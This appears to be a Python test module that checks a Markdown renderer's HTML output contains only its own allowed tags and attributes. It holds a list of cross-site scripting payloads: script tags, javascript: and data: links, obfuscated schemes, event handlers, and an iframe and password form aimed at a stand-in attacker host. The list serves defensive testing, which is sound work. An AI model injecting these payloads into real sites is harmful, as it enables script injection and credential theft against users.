"""Check that rendered Markdown holds only the elements and attributes the renderer itself makes."""

from html.parser import HTMLParser

from cohorts.markdown import LINK_REL

#: Every element and attribute the renderer may produce; anything else came from the person.
OWN_TAGS = {"p", "br", "strong", "em", "s", "a", "ul", "ol", "li", "blockquote", "code", "pre", "hr"}
OWN_ATTRIBUTES = {"a": {"href", "rel", "class"}, "ol": {"start"}}
LINK_SCHEMES = ("http://", "https://", "mailto:")

#: Text people might type to break out of the text: tags, handlers, scripts in links, entities, comments.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example.org/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<a href='javascript:alert(1)'>click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](javascript&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "javascript:alert(1) and data:text/html,<b>x</b>",
    '[click](https://example.org "title onmouseover=alert(1)")',
    '[x](https://example.org/"onmouseover="alert(1))',
    "<https://example.org/\"onmouseover='alert(1)'>",
    'https://example.org/"><script>alert(1)</script>',
    "![pic](https://tracker.example.org/pixel.png)",
    "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "```html onclick=alert(1)\n<b>code</b>\n```",
    "`<b onclick=alert(1)>`",
    "# Big heading\n\nSetext\n======",
    '<div style="position:fixed">overlay</div>',
    "<iframe src=https://evil.example.org></iframe>",
    "<form action=https://evil.example.org><input name=password></form>",
    "<style>body{display:none}</style>",
    "**<svg onload=alert(1)>**",
    "- <b onmouseover=alert(1)>x</b>\n  > *<i style=color:red>y</i>*",
    "> > > > [deep **<script>x</script>**](javascript:alert(1))",
    "&lt;script&gt; &#x3C;script&#x3E; &#60;img src=x onerror=1&#62; &#0; &#xD800;",
    "&quot;><script>alert(1)</script>",
    "www.example.org/<script>",
    "<!-- comment --><?php echo 1; ?><![CDATA[x]]>",
    "\u202e\u0000<b>nul</b>",
    "<" * 2000 + "script>" + "*" * 2000 + "[" * 2000 + "](javascript:alert(1))",
]


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_pi(self, data):
        self.comments.append(data)

    def unknown_decl(self, data):
        self.comments.append(data)


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """(tag, attributes) of every element in ``html``, in order."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    assert not collector.comments, html
    return [(tag, dict(attributes)) for tag, attributes in collector.elements]


def assert_only_own_markup(html: str, *, link_prefixes: tuple[str, ...] = LINK_SCHEMES, classes=frozenset()) -> None:
    for tag, attributes in elements(html):
        assert tag in OWN_TAGS, (tag, html)
        for name, value in attributes.items():
            assert name in OWN_ATTRIBUTES.get(tag, set()), (tag, name, html)
            if name == "href":
                assert value.startswith(link_prefixes), html
            if name == "rel":
                assert value == LINK_REL, html
            if name == "class":
                assert value in classes, html
            if name == "start":
                assert value.isdigit(), html
    lowered = html.lower()
    for made_by_a_person in ("<img", "<script", "<style", "<h1", "<iframe", "<svg", "<form", "language-"):
        assert made_by_a_person not in lowered, (made_by_a_person, html)
